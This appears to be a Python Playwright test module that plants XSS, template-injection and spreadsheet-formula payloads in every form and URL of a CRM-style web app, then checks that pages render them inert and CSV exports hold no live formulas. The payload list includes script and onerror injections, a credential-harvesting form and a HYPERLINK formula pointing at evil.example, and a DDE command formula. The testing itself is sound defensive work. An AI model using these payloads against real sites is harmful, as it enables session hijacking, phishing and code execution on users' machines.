"""Text that wants to be run, in every field of every form and on every page that shows it: it stays text, everywhere.

Each attack would leave a trace if any of it came to life: a dialog, a refusal of the content security policy, an
element or a link of its own. A company of its own is filled with them; then every page is opened.
"""

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest
from playwright.sync_api import Browser
from sqlalchemy import select

from src.models.user import User
from src.services.saved_views import LONGEST_NAME
from tests.cli.company import copied
from tests.services.office import DEPARTMENTS, Office
from tests.web.addresses import addresses_of
from tests.web.browsers import Screen, screen
from tests.web.servers import Server, serving, words_of

# Short enough for a first name; `owned` is what each would leave behind.
ATTACKS = (
    "<!-- what follows is gone",
    "<script>alert(1)</script>",
    "</title></textarea></script><img src=/none owned onerror=alert(1)>",
    '" autofocus onfocus=alert(1) owned="',
    "' onmouseover=alert(1) owned='",
    "<svg owned onload=alert(1)><style>*{display:none}</style>",
    "javascript:alert(1)//",
    "<a owned href=javascript:alert(1)>x</a>",
    "<form owned action=//evil.example><input name=password>",
    "<base owned href=//evil.example/><meta http-equiv=refresh content=0>",
    "{{ 7*'7' }}{% import os %}${7*7}<%= 7*7 %>",
    "&lt;b owned&gt;&#60;script&#62;alert(1)",
    '=HYPERLINK("//evil.example";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1\\u003cscript\\u003e\u2028x",
)
POLYGLOT = "\"'></textarea></title><img src=/none owned onerror=alert(1)><script>alert(1)</script>{{7*'7'}}"

# What came to life on the page that is open; scripts and dialogs are noted by the screen itself.
ALIVE = """() => [
  ...document.querySelectorAll("[owned], script:not([src]), style, base, iframe, object, meta[http-equiv]"),
  ...[...document.querySelectorAll("[href], [action], [src]")].filter(one =>
    !["http:", "mailto:", "tel:", "data:"].includes(new URL(
      one.getAttribute("href") || one.getAttribute("action") || one.getAttribute("src"), location).protocol)
    || /^https?:/.test(one.href || one.action || one.src || "") && new URL(one.href || one.action || one.src).host
      !== location.host),
  ...[...document.querySelectorAll("*")].filter(one => [...one.attributes].some(each => each.name.startsWith("on"))),
].map(one => one.outerHTML.slice(0, 200))
  .concat(document.body.innerText.includes("7777777") ? ["a template ran"] : [])
  .concat(document.createNodeIterator(document, NodeFilter.SHOW_COMMENT).nextNode() ? ["a part is commented out"] : [])
"""
WATCH = """addEventListener("securitypolicyviolation", event =>
  console.error(`policy: ${event.violatedDirective} ${event.blockedURI} ${event.sample}`))"""
# The forms of a page into which something can be typed, by their number.
FORMS = """() => [...document.querySelectorAll("main form[method=post]")].flatMap((form, number) =>
  form.querySelector("input:not([type=hidden], [type=radio], [type=checkbox]), textarea") ? [number] : [])"""
# Everything that can be typed holds the attack, as if the browser checked nothing, and the form is sent.
SEND = """([number, attack]) => {
  const form = [...document.querySelectorAll("main form[method=post]")][number];
  for (const one of form.querySelectorAll("input:not([type=hidden], [type=radio], [type=checkbox]), textarea")) {
    one.removeAttribute("maxlength");
    if (one.tagName === "INPUT") one.type = "text";
    one.value = attack;
  }
  HTMLFormElement.prototype.submit.call(form);
}"""


@pytest.fixture(scope="module")
def hostile_server(office_file: tuple[Path, Office], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A company of its own, to be filled with attacks."""
    with copied(office_file, tmp_path_factory.mktemp("hostile")) as company, serving(company) as running:
        yield running


def alive(opened: Screen) -> list[str]:
    """What of an attack came to life on the page that is open."""
    return [f"{opened.page.url}: {one}" for one in opened.page.evaluate(ALIVE) + opened.trouble]


def send(opened: Screen, path: str, number: int) -> None:
    """Send a form of a page with an attack in every field."""
    opened.open(path)
    with opened.page.expect_navigation():
        opened.page.evaluate(SEND, [number, POLYGLOT])


def plant(server: Server) -> list[str]:
    """Fill the company through its forms: for each attack a client, contract, payments and an event full of it.

    Gives the cards of what was planted.
    """
    seller, manager, supporter = (server.at_work(who) for who in ("sales", "management", "support"))
    cards = []
    for number, attack in enumerate(ATTACKS):
        names = {"first_name": attack, "last_name": attack, "email": f"planted{number}@example.com"}
        client = _sent(seller.send_form("/clients/new", **names, company_name=attack))
        contract = _sent(manager.send_form(f"{client}/contracts/new", title=attack, total="1000"))
        _sent(seller.send_form(f"{contract}/sign", at=""))
        money = {"received_on": "2026-11-01", "method": "card", "reference": attack}
        _sent(seller.send_form(f"{contract}/pay", **money, amount="100", key=f"planted {number}"))
        back = {**money, "amount": "1", "reason": attack, "key": f"back {number}"}
        _sent(manager.send_form(f"{contract}/refund", **back))
        when = {"event_start": f"2027-03-{number + 1:02d} 10:00", "event_end": f"2027-03-{number + 1:02d} 12:00"}
        texts = {"name": attack, "location": attack, "notes": attack, "contact_name": attack}
        event = _sent(seller.send_form(f"{contract}/events/new", **when, **texts, time_zone="Europe/Paris"))
        _sent(manager.send_form(f"{event}/assign", support_contact="support", version="1"))
        _sent(supporter.send_form(f"{event}/edit", notes=attack * 2, was_notes=attack, version="2"))
        log_in = {"username": f"planted{number}", "email": f"planted{number}@epic.example", "department": "SUPPORT"}
        staff = manager.send_form("/staff/new", **log_in, first_name=attack, last_name=attack, phone="")
        assert staff.status_code == 200, words_of(staff.text)
        view = {"list": "clients", "query": "sort=-id", "name": attack[:LONGEST_NAME]}
        _sent(manager.send_form("/views/new", **view))
        cards += [client, contract, event, f"/staff/{_number_of(server, log_in['username'])}"]
    return cards


def _number_of(server: Server, username: str) -> int:
    with server.company.database.reading() as session:
        return session.scalars(select(User.id).where(User.username == username)).one()


def _sent(answer: httpx.Response) -> str:
    # Where a form that was accepted leads to: the card of what was saved.
    assert answer.status_code == 303, words_of(answer.text)
    return answer.headers["location"]


@pytest.mark.long
def test_what_was_saved_is_text_on_every_page_in_every_list_and_in_every_file(
    chromium: Browser, hostile_server: Server
) -> None:
    server = hostile_server
    cards = plant(server)
    found = []
    with screen(chromium, server) as opened:
        opened.page.add_init_script(WATCH)
        opened.enter("management")
        lists = [
            "/",
            "/clients?sort=-id",
            "/contracts?sort=-id",
            "/events?show=all&sort=-id",
            "/contracts/new",
            "/audit",
        ]
        for path in lists + cards + [f"{card}/amend" for card in cards if card.startswith("/contracts")]:
            opened.open(path)
            found += alive(opened)
        for who, verb in (("sales", "edit"), ("support", "edit")):
            opened.enter(who)
            kind = "/clients" if who == "sales" else "/events"
            for path in ["/", *(f"{card}/{verb}" for card in cards if card.startswith(kind))]:
                opened.open(path)
                found += alive(opened)
    assert found == []
    _expect_files_to_hold_no_formula(server)


def _expect_files_to_hold_no_formula(server: Server) -> None:
    visitor = server.at_work("management")
    for path, column in (("/clients", "company_name"), ("/contracts", "title"), ("/events", "name")):
        text = visitor.send_form(f"{path}/export?show=all" if path == "/events" else f"{path}/export").text
        rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
        armed = [cell for row in rows for cell in row.values() if cell[:1] in set("=+-@\t\r")]
        assert armed == [], path
        held = {row[column].removeprefix("'") for row in rows}
        assert held >= {" ".join(attack.split()).removeprefix("'") for attack in ATTACKS}, path


@pytest.mark.parametrize("who", DEPARTMENTS)
def test_what_is_typed_into_any_form_comes_back_as_text(chromium: Browser, hostile_server: Server, who: str) -> None:
    server, found, sent = hostile_server, [], 0
    with screen(chromium, server) as opened:
        opened.page.add_init_script(WATCH)
        opened.enter(who)
        for path in addresses_of(who, server.company.office):
            for number in opened.open(path).evaluate(FORMS):
                send(opened, path, number)
                found += alive(opened)
                sent += 1
        # Once more when the session is over: what was typed travels through the log-in.
        opened.open("/account/password")
        opened.page.context.clear_cookies()
        with opened.page.expect_navigation():
            opened.page.evaluate(SEND, [0, POLYGLOT])
        found += alive(opened)
    assert found == []
    assert sent >= {"sales": 8, "support": 1, "management": 4}[who]


def test_what_is_asked_for_in_an_address_is_told_as_text(chromium: Browser, hostile_server: Server) -> None:
    found = []
    with screen(chromium, hostile_server) as opened:
        opened.page.add_init_script(WATCH)
        for attack in (*ATTACKS, POLYGLOT):
            opened.open(f"/login?next={quote('/' + attack)}")
            found += alive(opened)
        opened.enter("management")
        for attack in (*ATTACKS[:4], POLYGLOT):
            words = quote(attack, safe="")
            for path in (
                *(f"/{words}", f"/clients?q={words}", f"/clients?sort={words}", f"/clients?sales_contact={words}"),
                *(
                    f"/search?q={words}",
                    f"/contracts?show={words}",
                    f"/events?show={words}&client={words}",
                    f"/events?support={words}",
                ),
                *(f"/audit?who={words}&number={words}", f"/audit?since={words}", f"/clients?after={words}"),
            ):
                opened.open(path)
                found += alive(opened)
    assert found == []
